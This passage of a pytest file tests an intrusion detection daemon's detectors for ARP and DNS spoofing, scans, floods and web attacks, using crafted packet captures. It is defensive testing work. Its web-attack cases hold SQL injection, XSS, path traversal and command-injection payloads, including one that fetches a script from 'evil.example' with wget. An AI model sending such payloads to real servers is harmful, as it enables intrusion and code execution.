"""Protocol-fact detectors (ARP spoofing, DNS spoofing, OS fingerprinting, scans, web attacks, brute force,
floods from a crowd): crafted captures for each rule's positive and negative cases, the real attack and
benign captures of ../shared, bounded state under a spoofed flood, and the predictions they publish
through the daemon."""

from __future__ import annotations

import json
import subprocess
from dataclasses import replace
from pathlib import Path

import jsonschema
import numpy as np
import pytest
from scapy.all import ARP, DNS, DNSQR, DNSRR, ICMP, IP, TCP, UDP, Ether, Raw, wrpcap

from ids_daemon.capture.batch import PacketBatch, mac_to_str
from ids_daemon.capture.pcap import PcapSource
from ids_daemon.capture.decode import HTTP_SIGNATURES, http_signature
from ids_daemon.config import (BruteForceDetectorConfig, DetectorsConfig, FloodDetectorConfig, OsScanDetectorConfig,
                               ScanDetectorConfig,
                               load_config)
from ids_daemon.detectors import DETECTOR_CLASSES, DetectorSet, Finding
from ids_daemon.detectors.publish import RateLimiter, encode_findings
from ids_daemon.errors import ConfigError
from ids_daemon.predictions import json_schema

from .detect import run, run_with  # noqa: E402
from .helpers import EXE  # noqa: E402
from .paths import REAL  # noqa: E402
needs_real = pytest.mark.shared_data("real")  # tests/conftest.py: skip or fail, and when

GW, VICTIM, ATTACKER = "192.168.1.1", "192.168.1.20", "192.168.1.66"
GW_MAC, VICTIM_MAC, ATT_MAC = "00:00:00:00:00:01", "00:00:00:00:00:20", "00:00:00:00:00:66"


def write(tmp_path: Path, name: str, pkts: list, t0: float = 1_700_000_000.0, step: float = 0.01) -> Path:
    for i, p in enumerate(pkts):
        if p.time is None or p.time < 1e9:
            p.time = t0 + (p.time or 0.0) if p.time and p.time < 1e9 else t0 + i * step
    path = tmp_path / name
    wrpcap(str(path), pkts)
    return path


def at(p, t: float):
    p.time = 1_700_000_000.0 + t
    return p


C = {c: i for i, c in enumerate(DETECTOR_CLASSES)}


# ---- ARP ---------------------------------------------------------------------------------
def arp_req(t, mac, ip, target):
    return at(Ether(src=mac, dst="ff:ff:ff:ff:ff:ff") / ARP(op=1, hwsrc=mac, psrc=ip, pdst=target), t)


def arp_rep(t, mac, ip, to_mac, to_ip):
    return at(Ether(src=mac, dst=to_mac) / ARP(op=2, hwsrc=mac, psrc=ip, hwdst=to_mac, pdst=to_ip), t)


def test_decode_fills_mac_columns(tmp_path: Path) -> None:
    path = write(tmp_path, "a.pcap", [arp_rep(0, ATT_MAC, GW, VICTIM_MAC, VICTIM)])
    b, _, _ = run(path)
    assert mac_to_str(b.arp_sha[0]) == ATT_MAC and mac_to_str(b.eth_src[0]) == ATT_MAC


def test_arp_spoofing_flags_the_spoofer_only(tmp_path: Path) -> None:
    pkts = [arp_req(0, GW_MAC, GW, VICTIM), arp_rep(0.001, VICTIM_MAC, VICTIM, GW_MAC, GW)]
    pkts += [arp_rep(1 + 2 * i, ATT_MAC, GW, VICTIM_MAC, VICTIM) for i in range(10)]  # unsolicited, every 2 s
    pkts += [arp_req(5.5, GW_MAC, GW, VICTIM), arp_rep(5.501, VICTIM_MAC, VICTIM, GW_MAC, GW)]
    b, fc, findings = run(write(tmp_path, "spoof.pcap", pkts))
    flagged = fc == C["MITM-ArpSpoofing"]
    assert flagged.sum() == 10
    assert set(mac_to_str(m) for m in b.arp_sha[flagged]) == {ATT_MAC}
    assert findings and findings[0].attacker == ATT_MAC and findings[0].victim == GW
    assert findings[0].family == "Spoofing"


def test_arp_spoofer_first_then_owner(tmp_path: Path) -> None:
    # the spoofer's claims come before the owner's first one: still the spoofer is flagged
    pkts = [arp_rep(i, ATT_MAC, GW, VICTIM_MAC, VICTIM) for i in range(5)]
    pkts += [arp_req(6, GW_MAC, GW, VICTIM), arp_rep(6.001, VICTIM_MAC, VICTIM, GW_MAC, GW)]
    b, fc, _ = run(write(tmp_path, "first.pcap", pkts))
    assert (fc >= 0).sum() == 5 and set(mac_to_str(m) for m in b.arp_sha[fc >= 0]) == {ATT_MAC}


def test_ordinary_arp_is_not_flagged(tmp_path: Path) -> None:
    pkts = []
    for k in range(5):  # requests and solicited replies, both ways
        pkts += [arp_req(10 * k, VICTIM_MAC, VICTIM, GW), arp_rep(10 * k + 0.001, GW_MAC, GW, VICTIM_MAC, VICTIM)]
    pkts += [at(Ether(src=VICTIM_MAC, dst="ff:ff:ff:ff:ff:ff") / ARP(op=2, hwsrc=VICTIM_MAC, psrc=VICTIM,
                                                                       pdst=VICTIM), 60 + k) for k in range(3)]  # gratuitous, same MAC
    pkts += [arp_req(2000, ATT_MAC, VICTIM, GW)]  # the IP renumbered to another MAC long after
    _, fc, findings = run(write(tmp_path, "ok.pcap", pkts))
    assert (fc >= 0).sum() == 0 and not findings


# ---- DNS ---------------------------------------------------------------------------------
def dns_q(t, txid, name="example.com", sport=40000, server="8.8.8.8"):
    return at(Ether(src=VICTIM_MAC, dst=GW_MAC) / IP(src=VICTIM, dst=server) / UDP(sport=sport, dport=53)
              / DNS(id=txid, rd=1, qd=DNSQR(qname=name)), t)


def dns_r(t, txid, addr, name="example.com", sport=40000, server="8.8.8.8", mac=GW_MAC):
    return at(Ether(src=mac, dst=VICTIM_MAC) / IP(src=server, dst=VICTIM) / UDP(sport=53, dport=sport)
              / DNS(id=txid, qr=1, rd=1, ra=1, qd=DNSQR(qname=name), an=DNSRR(rrname=name, rdata=addr)), t)


def test_dns_conflicting_answers_flag_the_spoofed_response(tmp_path: Path) -> None:
    pkts = [dns_q(0, 7), dns_r(0.02, 7, "93.184.216.34"), dns_r(0.05, 7, "6.6.6.6", mac=ATT_MAC),
            dns_r(0.0501, 7, "6.6.6.6", mac=ATT_MAC)]
    b, fc, findings = run(write(tmp_path, "dns.pcap", pkts))
    assert b.dns_ok.sum() == 4 and b.dns_qr.sum() == 3
    assert fc.tolist() == [-1, -1, C["DNS_Spoofing"], C["DNS_Spoofing"]]
    assert findings[0].attacker == ATT_MAC and findings[0].victim == VICTIM


def test_dns_response_from_another_server_is_flagged(tmp_path: Path) -> None:
    pkts = [dns_q(0, 9, server="8.8.8.8"), dns_r(0.01, 9, "6.6.6.6", server="9.9.9.9", mac=ATT_MAC)]
    _, fc, _ = run(write(tmp_path, "dns2.pcap", pkts))
    assert fc.tolist() == [-1, C["DNS_Spoofing"]]


def test_ordinary_dns_is_not_flagged(tmp_path: Path) -> None:
    pkts = []
    for k in range(20):  # round-robin answers to different queries, duplicates, retransmissions
        pkts += [dns_q(k, 100 + k, sport=41000 + k), dns_r(k + 0.02, 100 + k, f"10.0.0.{k + 1}", sport=41000 + k)]
    pkts += [dns_r(30, 119, "10.0.0.20", sport=41019)]  # a late duplicate of the same answer
    pkts += [dns_q(40, 5), dns_r(40.02, 5, "1.1.1.1"), dns_q(50, 5), dns_r(50.02, 5, "2.2.2.2")]  # same txid, 10 s apart
    _, fc, findings = run(write(tmp_path, "dnsok.pcap", pkts))
    assert (fc >= 0).sum() == 0 and not findings


# ---- scans ---------------------------------------------------------------------------------
SCANNER, TARGET = "10.0.0.5", "10.0.0.9"


def syn_scan(t0: float, ports, flags="S", answer="RA", opts=None):
    out = []
    for i, p in enumerate(ports):
        t = t0 + i * 0.002
        out.append(at(Ether() / IP(src=SCANNER, dst=TARGET) / TCP(sport=55555, dport=p, flags=flags,
                                                                  options=opts or []), t))
        if answer:
            out.append(at(Ether() / IP(src=TARGET, dst=SCANNER) / TCP(sport=p, dport=55555, flags=answer), t + 0.0005))
    return out


@pytest.mark.parametrize("flags,answer", [("S", "RA"), ("F", "RA"), ("", "RA"), ("FPU", "RA"), ("A", "R"), ("S", None)])
def test_vertical_tcp_scans(tmp_path: Path, flags: str, answer: str | None) -> None:
    pkts = syn_scan(0, range(1, 201), flags, answer) + [at(Ether() / IP(src="10.0.0.7", dst=TARGET) / ICMP(), 5)]
    b, fc, findings = run(write(tmp_path, "vs.pcap", pkts))
    flagged = fc == C["Recon-PortScan"]
    assert flagged.sum() >= 0.85 * (len(b) - 1)
    assert fc[-1] == -1  # an unrelated host's ping
    assert findings[0].attacker == SCANNER and findings[0].victim == TARGET


def test_a_slow_scan_is_flagged_from_its_first_probe(tmp_path: Path) -> None:
    """Unanswered SYNs ten a second: the 20th failed probe is known as failed only `answer_s`
    after it was sent, some probes later. Every probe of the batch is the scan's, those counted
    before the threshold included; the same probes over two batches flag the second batch
    whole and leave the first (gone to the meter already) as it was."""
    pkts = [at(p, 0.1 * i) for i, p in enumerate(p_ for p_ in syn_scan(0, range(1, 31), answer=None))]
    pcap = write(tmp_path, "slow.pcap", pkts)
    _, fc, findings = run(pcap)
    assert (fc == C["Recon-PortScan"]).all(), fc
    assert [f.packets for f in findings] == [30]
    _, fc, _ = run(pcap, batch_size=16)
    assert (fc[:16] == -1).all() and (fc[16:] == C["Recon-PortScan"]).all(), fc


def test_a_held_scanner_exchange_with_its_target_is_flagged_its_other_traffic_not(tmp_path: Path) -> None:
    """After a vertical scan, the scanner's banner grab on an open port of its target is the
    scan too (a vulnerability scanner's checks), data included. Not flagged: a session
    another host opens to the scanner, and a connection to the target once the hold ended."""
    pkts = syn_scan(0, range(1, 61))
    grab = tcp_conn(1.0, SCANNER, TARGET, 40001, 445, [b"\x00\x00\x00\x85\xffSMB" + b"r" * 40], [b"banner" * 8])
    admin = tcp_conn(1.5, "10.0.0.77", SCANNER, 40002, 22, [b"SSH-2.0-OpenSSH_9.6\r\n"], [b"SSH-2.0-OpenSSH_9.6\r\n"])
    later = tcp_conn(300.0, SCANNER, TARGET, 40003, 445, [b"\x00\x00\x00\x85\xffSMB" + b"q" * 40], [b"banner"])
    b, fc, _ = run(write(tmp_path, "grab.pcap", sorted(pkts + grab + admin + later, key=lambda p: p.time)))
    port = np.array([max(int(s_), int(d)) for s_, d in zip(b.sport, b.dport)])
    for p_, conn, flagged in ((40001, grab, True), (40002, admin, False), (40003, later, False)):
        rows = port == p_
        assert rows.sum() == len(conn)
        assert ((fc[rows] == C["Recon-PortScan"]) if flagged else (fc[rows] == -1)).all(), (p_, fc[rows])


def test_unanswered_ack_and_crafted_flag_scans(tmp_path: Path) -> None:
    # hping3 -A against a filtering host: bare ACKs to 30 ports, no answer at all
    acks = [at(IP(src=ATTACKER, dst=VICTIM) / TCP(sport=2000 + i, dport=20 + i, flags="A"), i * 0.05) for i in range(30)]
    b, fc, _ = run(write(tmp_path, "ack.pcap", acks))
    assert (fc == C["Recon-PortScan"]).sum() >= 10
    # unicornscan's all-six-flags probes (SYN+FIN+RST+PSH+ACK+URG) to 30 ports
    odd = [at(IP(src=ATTACKER, dst=VICTIM) / TCP(sport=3000 + i, dport=20 + i, flags="FSRPAU"), i * 0.05)
           for i in range(30)]
    b, fc, _ = run(write(tmp_path, "odd.pcap", odd))
    assert (fc == C["Recon-PortScan"]).sum() >= 10
    # a client closing connections to 30 web servers (each last ACK unanswered) is no scan,
    # nor is one downloading from 25 ports of one host (its ACKs are answered by more data)
    pkts = []
    for i in range(30):
        srv = f"10.2.0.{i + 1}"
        pkts += [at(IP(src=CLIENT, dst=srv) / TCP(sport=40000 + i, dport=443, flags="S"), i * 0.1),
                 at(IP(src=srv, dst=CLIENT) / TCP(sport=443, dport=40000 + i, flags="SA"), i * 0.1 + 0.01),
                 at(IP(src=CLIENT, dst=srv) / TCP(sport=40000 + i, dport=443, flags="A"), i * 0.1 + 0.02),
                 at(IP(src=CLIENT, dst=srv) / TCP(sport=40000 + i, dport=443, flags="FA"), i * 0.1 + 0.03),
                 at(IP(src=srv, dst=CLIENT) / TCP(sport=443, dport=40000 + i, flags="FA"), i * 0.1 + 0.04),
                 at(IP(src=CLIENT, dst=srv) / TCP(sport=40000 + i, dport=443, flags="A"), i * 0.1 + 0.05)]
    for i in range(25):
        for k in range(4):
            t = 5 + i * 0.1 + k * 0.02
            pkts += [at(IP(src=SERVER, dst=CLIENT) / TCP(sport=8000 + i, dport=50000 + i, flags="PA") / Raw(b"d" * 500), t),
                     at(IP(src=CLIENT, dst=SERVER) / TCP(sport=50000 + i, dport=8000 + i, flags="A"), t + 0.005)]
    pkts.sort(key=lambda p: p.time)
    b, fc, findings = run(write(tmp_path, "closes.pcap", pkts))
    assert (fc == -1).all() and not findings


def test_udp_scan_with_icmp_unreachable(tmp_path: Path) -> None:
    pkts = []
    for i, p in enumerate(range(100, 160)):
        pkts.append(at(Ether() / IP(src=SCANNER, dst=TARGET) / UDP(sport=50000, dport=p), i * 0.01))
        pkts.append(at(Ether() / IP(src=TARGET, dst=SCANNER) / ICMP(type=3, code=3) / IP(src=SCANNER, dst=TARGET)
                       / UDP(sport=50000, dport=p), i * 0.01 + 0.001))
    _, fc, _ = run(write(tmp_path, "udp.pcap", pkts))
    assert (fc == C["Recon-PortScan"]).sum() >= 0.6 * len(pkts)


def test_a_udp_scanners_answers_are_flagged_its_resolvers_not(tmp_path: Path) -> None:
    """A UDP scan whose open ports answer in UDP: those answers are the scan's (the target was
    probed). The scanner's resolver answering its lookups meanwhile was never probed: its UDP to
    the scanner is the scanner's own traffic, not a reply to a probe."""
    pkts = []
    for i, p in enumerate(range(100, 160)):
        pkts.append(at(Ether() / IP(src=SCANNER, dst=TARGET) / UDP(sport=50000, dport=p), i * 0.01))
        if p % 10 == 0:  # an open port answers
            pkts.append(at(Ether() / IP(src=TARGET, dst=SCANNER) / UDP(sport=p, dport=50000) / Raw(b"x" * 8),
                           i * 0.01 + 0.001))
    for k in range(3):
        pkts.append(at(Ether() / IP(src=SCANNER, dst="10.0.0.53") / UDP(sport=41000 + k, dport=53) / Raw(b"q" * 30),
                       0.2 + 0.1 * k))
        pkts.append(at(Ether() / IP(src="10.0.0.53", dst=SCANNER) / UDP(sport=53, dport=41000 + k) / Raw(b"a" * 60),
                       0.2 + 0.1 * k + 0.002))
    b, fc, _ = run(write(tmp_path, "udp2.pcap", sorted(pkts, key=lambda p: p.time)))
    from_target = (b.src4 == 0x0A000009) & (b.proto == 17)
    from_resolver = b.src4 == 0x0A000035
    assert from_target.sum() == 6 and from_resolver.sum() == 3
    assert (fc[from_target] == C["Recon-PortScan"]).all()
    assert (fc[from_resolver] == -1).all()


def test_horizontal_sweep_ping_sweep_and_arp_discovery(tmp_path: Path) -> None:
    pkts = [at(Ether() / IP(src=SCANNER, dst=f"10.1.0.{i}") / TCP(sport=40000 + i, dport=23, flags="S"), i * 0.005)
            for i in range(1, 100)]
    _, fc, f1 = run(write(tmp_path, "h.pcap", pkts))
    assert (fc == C["Recon-PortScan"]).sum() >= 70 and f1[0].victim == "*:23"
    pkts = [at(Ether() / IP(src=SCANNER, dst=f"10.2.0.{i}") / ICMP(type=8), i * 0.05) for i in range(1, 30)]
    _, fc, _ = run(write(tmp_path, "p.pcap", pkts))
    assert (fc == C["Recon-PingSweep"]).sum() >= 15
    pkts = [arp_req(i * 0.01, ATT_MAC, SCANNER, f"10.0.0.{i + 10}") for i in range(60)]
    _, fc, _ = run(write(tmp_path, "d.pcap", pkts))
    assert (fc == C["Recon-HostDiscovery"]).sum() >= 35


def test_benign_many_connections_are_not_scans(tmp_path: Path) -> None:
    pkts = []
    mss = [("MSS", 1460), ("SAckOK", b""), ("Timestamp", (1, 0)), ("NOP", None), ("WScale", 7)]
    for i in range(60):  # a browser: 60 HTTPS servers, all answer
        s = f"93.0.{i}.1"
        t = i * 0.01
        pkts += [at(Ether() / IP(src=VICTIM, dst=s) / TCP(sport=50000 + i, dport=443, flags="S", options=mss), t),
                 at(Ether() / IP(src=s, dst=VICTIM) / TCP(sport=443, dport=50000 + i, flags="SA"), t + 0.03),
                 at(Ether() / IP(src=VICTIM, dst=s) / TCP(sport=50000 + i, dport=443, flags="A"), t + 0.031)]
    for i in range(60):  # an app opening many short connections to its bridge; Modbus polling
        t = 1 + i * 0.5
        pkts += [at(Ether() / IP(src=VICTIM, dst="192.168.1.2") / TCP(sport=30000 + i, dport=80, flags="S"), t),
                 at(Ether() / IP(src="192.168.1.2", dst=VICTIM) / TCP(sport=80, dport=30000 + i, flags="SA"), t + 0.002),
                 at(Ether() / IP(src=VICTIM, dst="192.168.1.3") / TCP(sport=40000, dport=502, flags="PA") / (b"\x00" * 12),
                    t + 0.1),
                 at(Ether() / IP(src="192.168.1.3", dst=VICTIM) / TCP(sport=502, dport=40000, flags="PA") / (b"\x00" * 11),
                    t + 0.11)]
    for i in range(30):  # mDNS, SSDP, NTP, DHCP
        t = 40 + i
        pkts += [at(Ether() / IP(src=VICTIM, dst="224.0.0.251") / UDP(sport=5353, dport=5353), t),
                 at(Ether() / IP(src=VICTIM, dst="239.255.255.250") / UDP(sport=50001, dport=1900), t + 0.1),
                 at(Ether() / IP(src=f"192.168.1.{100 + i}", dst=VICTIM) / UDP(sport=1900, dport=50001), t + 0.2),
                 at(Ether() / IP(src=VICTIM, dst=f"162.159.200.{i}") / UDP(sport=123, dport=123), t + 0.3),
                 at(Ether() / IP(src=f"162.159.200.{i}", dst=VICTIM) / UDP(sport=123, dport=123), t + 0.33),
                 at(Ether() / IP(src="0.0.0.0", dst="255.255.255.255") / UDP(sport=68, dport=67), t + 0.4)]
    pkts.sort(key=lambda p: p.time)
    _, fc, findings = run(write(tmp_path, "benign.pcap", pkts))
    assert (fc >= 0).sum() == 0 and not findings


def spoofed_syns(rng: np.random.Generator, n: int, t0: float, dport: int) -> PacketBatch:
    """A batch of ``n`` SYNs from random spoofed sources to 10.0.0.9:``dport`` over one second."""
    b = PacketBatch.empty(n)
    b.ts[:] = t0 + np.arange(n) / n
    b.ethertype[:] = 0x0800
    b.ip_version[:] = 4
    b.proto[:] = 6
    b.l4_ok[:] = True
    b.src4[:] = rng.integers(1, 2**32 - 1, n, dtype=np.uint64).astype(np.uint32)
    b.dst4[:] = 0x0A000009
    b.sport[:] = rng.integers(1024, 65535, n).astype(np.uint16)
    b.dport[:] = dport
    b.tcp_flags[:] = 2
    b.l4_hdr_len[:] = 20
    b.ip_hdr_len[:] = 20
    b.ip_len[:] = 40
    return b


def test_state_is_bounded_under_a_spoofed_flood() -> None:
    rng = np.random.default_rng(0)
    cfg = DetectorsConfig(scan=ScanDetectorConfig(max_pending=5000, max_groups=5000))
    ds = DetectorSet(cfg)
    for k in range(10):  # 1M spoofed sources, SYNs to one port
        r = ds.process(spoofed_syns(rng, 100_000, 1_700_000_000.0 + k, 80))
    scan = next(d for d in ds.detectors if d.name == "scan")
    assert len(scan.pending) <= 5000 and len(scan.groups) <= 5000
    assert scan.counters["pending_evictions"] + scan.counters["group_evictions"] > 0
    # one SYN per source: a flood (the flood detector's), not a scan
    assert set(np.unique(r.frame_class).tolist()) == {C["DDoS-SYN_Flood"]}


def test_rate_limit_and_encoding_validate_against_the_schema(tmp_path: Path) -> None:
    pkts = [arp_rep(i, ATT_MAC, GW, VICTIM_MAC, VICTIM) for i in range(3)]
    pkts += [arp_req(5, GW_MAC, GW, VICTIM)]
    _, _, findings = run(write(tmp_path, "s.pcap", pkts))
    assert len(findings) == 1
    rl = RateLimiter(60.0)
    assert len(rl.admit(list(findings))) == 1
    again = [replace(f, first_ts=f.first_ts + 10, last_ts=f.last_ts + 10) for f in findings]
    assert rl.admit(again) == [] and rl.counters["suppressed"] == 1
    later = [replace(f, first_ts=f.first_ts + 110, last_ts=f.last_ts + 110) for f in findings]
    kept = rl.admit(later)
    # the folded one comes out first (its time had passed), then the new one
    assert [k.first_ts for k in kept] == [again[0].first_ts, later[0].first_ts]
    assert [k.suppressed for k in kept] == [0, 0]
    enc = encode_findings(kept, sensor="s", id_prefix="x", first_id=0, now=1.0, interface="br-lan")
    rec = json.loads(enc.values[0])
    jsonschema.validate(rec, json_schema())
    # the same join fields as the model's predictions
    assert rec["timestamp"] == "1970-01-01T00:00:01.000000Z" and rec["interface"] == "br-lan"
    assert rec["model"]["name"] == "detector:arp" and rec["flow"]["kind"] == "detector"
    assert rec["risk_score"] == 0.7 and rec["severity"] == "high" and "evidence" in rec


def _finding(first: float, last: float, packets: int, evidence: str = "e") -> Finding:
    return Finding(detector="flood", cls="DDoS-SYN_Flood", first_ts=first, last_ts=last, packets=packets,
                   attacker="", victim="10.0.0.1", protocol="tcp", evidence=evidence)


def test_folded_findings_come_out_together_when_due_and_at_the_end() -> None:
    """Repeats within repeat_s are one message, published repeat_s after the key's last one
    (by packet time) or by flush: every frame they stood for is in some message."""
    rl = RateLimiter(60.0)
    assert [f.packets for f in rl.admit([_finding(0, 1, 32)], now=1)] == [32]
    assert rl.admit([_finding(1, 2, 18, "ports 20"), _finding(2, 3, 5, "ports 25")], now=3) == []
    assert rl.counters["suppressed"] == 2
    assert rl.admit([], now=60.9) == []  # 59.9 s after the last message's end: not yet
    due = rl.admit([], now=61.0)
    assert [(f.first_ts, f.last_ts, f.packets, f.suppressed, f.evidence) for f in due] == [(1, 3, 23, 1, "ports 25")]
    # the next repeats fold for repeat_s from that message (packet time 61)
    assert rl.admit([_finding(61.5, 62, 7)], now=62) == []
    assert rl.admit([_finding(63, 64, 4)], now=120.9) == []
    assert [(f.packets, f.suppressed) for f in rl.admit([], now=121)] == [(11, 1)]
    assert rl.admit([_finding(122, 123, 2)], now=123) == []
    assert [(f.packets, f.suppressed) for f in rl.flush()] == [(2, 0)] and rl.flush() == []
    # another victim is another key: never folded into the first
    other = replace(_finding(64, 65, 3), victim="10.0.0.2")
    assert rl.admit([other], now=65) == [other]


def test_a_flood_split_over_batches_is_all_published(tmp_path: Path) -> None:
    """A SYN flood the flood detector flags over several batches: the detector's messages
    together carry every frame it flagged (the repeats folded by the rate limit come out when
    the replay ends), and the summary counts them."""
    pkts = [Ether() / IP(src=f"10.98.{i // 250}.{i % 250 + 1}", dst="10.0.0.1") /
            TCP(sport=1024 + i, dport=80, flags="S") for i in range(200)]
    for i, p in enumerate(pkts):
        p.time = 1_700_000_000 + i * 0.001
    pcap = write(tmp_path, "f.pcap", pkts)
    cfg = tmp_path / "c.yml"
    cfg.write_text("capture:\n  batch_size: 32\n")
    out = tmp_path / "p.jsonl"
    p = subprocess.run([EXE, "replay", "-r", str(pcap), "-o", str(out), "--config", str(cfg),
                        "--metrics-listen", "off"], capture_output=True, text=True, timeout=120)
    assert p.returncode == 0, p.stderr
    det = [m for m in map(json.loads, out.read_text().splitlines()) if m["flow"]["kind"] == "detector"]
    flagged = int(p.stderr.split(" frames flagged")[0].split()[-1])
    assert flagged > 150, p.stderr
    assert sum(m["window"]["packets"] for m in det) == flagged, (det, p.stderr)
    assert len(det) >= 2 and det[-1]["suppressed"] > 0  # the folded repeats, in one message


def test_bad_detector_config_names_the_key() -> None:
    with pytest.raises(ConfigError) as e:
        load_config(overrides={"detectors.scan.fail_ratio": 2})
    assert "detectors.scan.fail_ratio" in str(e.value) and "\n" not in str(e.value)
    assert DetectorSet(DetectorsConfig(enabled=False)).detectors == []
    with pytest.raises(ConfigError) as e:
        load_config(overrides={"detectors.bruteforce.ports": [22, 70000]})
    assert "detectors.bruteforce.ports" in str(e.value) and "70000" in str(e.value)
    names = [d.name for d in DetectorSet(load_config(Path(__file__).parents[1] / "config.yml").detectors).detectors]
    assert names == ["arp", "dns", "osscan", "scan", "web", "bruteforce", "shell", "flood", "slowhttp", "reflection",
                     "volume"]
    with pytest.raises(ConfigError) as e:
        load_config(overrides={"detectors.flood.sources": 3})
    assert "detectors.flood.sources" in str(e.value) and "\n" not in str(e.value)


# ---- web attacks -----------------------------------------------------------------------------
CLIENT, SERVER = "10.1.0.7", "10.1.0.80"


def tcp_conn(t0: float, client: str, server: str, cport: int, sport: int, requests: list[bytes],
             replies: list[bytes] | None = None, step: float = 0.01) -> list:
    """A whole TCP connection: handshake, each request and its reply, FIN both ways (with real
    sequence and acknowledgement numbers: the web detector checks them)."""
    nxt = {"c": 1000 + cport * 7, "s": 5000 + sport * 13}  # each side's next sequence number

    def seg(side: str, t, fl, data=b""):
        a, b_, ap, bp = (client, server, cport, sport) if side == "c" else (server, client, sport, cport)
        seq, ack = nxt[side], nxt["s" if side == "c" else "c"]
        nxt[side] += len(data) + (1 if ("S" in fl or "F" in fl) else 0)
        return at(Ether() / IP(src=a, dst=b_) / TCP(sport=ap, dport=bp, flags=fl, seq=seq, ack=ack if "A" in fl else 0)
                  / (Raw(data) if data else b""), t)

    c2s = lambda t, fl, data=b"": seg("c", t, fl, data)  # noqa: E731
    s2c = lambda t, fl, data=b"": seg("s", t, fl, data)  # noqa: E731
    out = [c2s(t0, "S")]
    out += [s2c(t0 + step, "SA"), c2s(t0 + 2 * step, "A")]
    t = t0 + 3 * step
    for k, req in enumerate(requests):
        out.append(c2s(t, "PA", req))
        rep = (replies or [])[k] if replies and k < len(replies) else b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok"
        out.append(s2c(t + step, "PA", rep))
        t += 2 * step
    out += [c2s(t, "FA"), s2c(t + step, "FA"), c2s(t + 2 * step, "A")]
    return out


def get(path: str, ua: str = "Mozilla/5.0 (X11; Linux x86_64) Firefox/120.0", extra: str = "") -> bytes:
    return f"GET {path} HTTP/1.1\r\nHost: {SERVER}\r\nUser-Agent: {ua}\r\n{extra}Accept: */*\r\n\r\n".encode()


@pytest.mark.parametrize("request_, cls", [
    (get("/dvwa/sqli/?id=%27+or+1%3D1--+&Submit=Submit"), "SqlInjection"),
    (get("/item.php?id=1+union+all+select+user,password+from+users"), "SqlInjection"),
    (get("/q?id=1%27+and+sleep(5)%23"), "SqlInjection"),
    (get("/search?q=%253Cscript%253Ealert(document.cookie)%253C%252Fscript%253E"), "XSS"),  # encoded twice
    (get("/p?x=%3Cimg+src%3Dx+onerror%3Dalert(1)%3E"), "XSS"),
    (b"POST /comment HTTP/1.1\r\nHost: h\r\nContent-Type: application/x-www-form-urlencoded\r\n\r\n"
     b"text=%3Ciframe+src%3Djavascript%3Aalert(1)%3E", "XSS"),
    (get("/ping.php?ip=127.0.0.1%3Bcat+%2Fetc%2Fpasswd"), "CommandInjection"),
    (get("/cgi-bin/x?cmd=%7C+id"), "CommandInjection"),
    (get("/x?u=$(wget+http://evil.example/s.sh)"), "CommandInjection"),
    (get("/download?file=../../../../etc/passwd"), "VulnerabilityScan"),
    (get("/index.php?page=php://filter/convert.base64-encode/resource=index"), "VulnerabilityScan"),
    (get("/?id=%27+or+1%3D1--", ua="sqlmap/1.7.2#stable (https://sqlmap.org)"), "VulnerabilityScan"),
    (get("/", ua="Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:map_codes)"), "VulnerabilityScan"),
])
def test_web_attack_signatures(tmp_path: Path, request_: bytes, cls: str) -> None:
    code = http_signature(request_)
    assert code and HTTP_SIGNATURES[code - 1][1] == cls
    # through decode and the detector, on a non-standard port: the request and the rest of
    # the connection (both directions) are flagged, and so is what the pair exchanged up to
    # LOOKBACK_S before it in the same batch (the handshake, an earlier request)
    pkts = tcp_conn(0, CLIENT, SERVER, 40001, 8080, [get("/index.html"), request_])
    b, fc, findings = run(write(tmp_path, "web.pcap", pkts))
    assert b.http_sig[5] > 0 and b.http_sig[3] == 0
    assert (fc == C[cls]).all()
    assert findings[0].cls == cls and findings[0].attacker == CLIENT and findings[0].victim == SERVER


def test_web_hold_covers_the_connection_not_further_ones(tmp_path: Path) -> None:
    """The hold is the attack's connection (closed by its FINs), not the (client, server, port)
    pair: the client's next connections are flagged only by their own requests."""
    attack = tcp_conn(0, CLIENT, SERVER, 40001, 80, [get("/x?id=1%27+union+select+1,2--")])
    later = tcp_conn(100, CLIENT, SERVER, 40002, 80, [get("/index.html")])  # once within the old 300 s pair hold
    other = tcp_conn(101, "10.1.0.8", SERVER, 40003, 80, [get("/index.html")])  # another client
    expired = tcp_conn(1000, CLIENT, SERVER, 40004, 80, [get("/index.html")])
    b, fc, _ = run(write(tmp_path, "hold.pcap", attack + later + other + expired))
    n1 = len(attack)
    assert (fc[:n1] == C["SqlInjection"]).all()  # the handshake too
    assert (fc[n1:] == -1).all()


def test_lookback_covers_the_pair_seconds_before_in_the_batch_only(tmp_path: Path) -> None:
    """The frames of a pair more than LOOKBACK_S before the attack request, and those of an
    earlier batch (already metered), are not flagged."""
    from ids_daemon.detectors.base import LOOKBACK_S

    early = tcp_conn(0, CLIENT, SERVER, 40001, 80, [get("/index.html")])
    attack = tcp_conn(LOOKBACK_S + 5, CLIENT, SERVER, 40002, 80, [get("/x?id=1%27+union+select+1,2--")])
    path = write(tmp_path, "lookback.pcap", early + attack)
    _, fc, _ = run(path)
    assert (fc[:len(early)] == -1).all() and (fc[len(early):] == C["SqlInjection"]).all()
    ds = DetectorSet()
    with PcapSource(path, batch_size=5) as src:  # the attack's SYN and SYN-ACK in the batch before its request
        got = []
        while (b := src.next_batch()) is not None:
            got.append(ds.process(b).frame_class)
    fc5 = np.concatenate(got)
    n = len(early)
    assert (fc5[:n + 2] == -1).all() and (fc5[n + 2:] == C["SqlInjection"]).all()


def test_a_scanner_stays_a_vulnerability_scan(tmp_path: Path) -> None:
    nikto = "Mozilla/5.00 (Nikto/2.1.6)"
    pkts = tcp_conn(0, CLIENT, SERVER, 40001, 80, [get("/", ua=nikto), get("/?q=%3Cscript%3E", ua=nikto),
                                                   get("/?x=%27+or+1%3D1--")])
    _, fc, findings = run(write(tmp_path, "nikto.pcap", pkts))
    assert set(fc[3:].tolist()) == {C["VulnerabilityScan"]}
    assert {f.cls for f in findings} == {"VulnerabilityScan"}


BENIGN_REQUESTS = [
    get("/search?q=rock+%27n%27+roll+and+o%27reilly+books"),
    get("/search?q=select+the+best+restaurants+from+paris"),
    get("/login?redirect=https%3A%2F%2Fexample.com%2Fhome%3Fa%3D1&next=http://example.org/"),
    get("/api/v1/items?order=name&sort=desc&page=2&filter=a|b"),
    get("/static/app.js?v=3", extra="Cookie: sid=abc; id=42; theme=dark\r\nReferer: https://example.com/?q=it's\r\n"),
    get("/wiki/Union_(set_theory)?action=view"),
    get("/docs/script-tags-and-onload-events.html"),
